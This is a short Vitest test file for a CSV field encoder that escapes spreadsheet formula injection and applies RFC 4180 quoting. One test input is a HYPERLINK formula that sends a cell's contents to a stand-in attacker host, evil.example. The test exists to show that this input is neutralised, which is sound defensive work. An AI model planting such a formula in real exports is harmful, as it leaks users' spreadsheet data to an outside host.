import { describe, expect, it } from 'vitest';
import { csvField } from './csv-field';

describe('a field of the lab manifest', () => {
  it('given text a spreadsheet would run as a formula, then it is written as text', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"Click") | Poster')).toBe(
      `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"") | Poster"`,
    );
    for (const start of ['+', '-', '@', '\t']) expect(csvField(`${start}1+1`)).toBe(`'${start}1+1`);
  });

  it('given numbers (negative ones too), plain text, commas and nothing, then they are as RFC 4180 has them', () => {
    expect(csvField(-3)).toBe('-3');
    expect(csvField(300)).toBe('300');
    expect(csvField('A3 Poster')).toBe('A3 Poster');
    expect(csvField('Matte, 300 GSM')).toBe('"Matte, 300 GSM"');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
  });
});
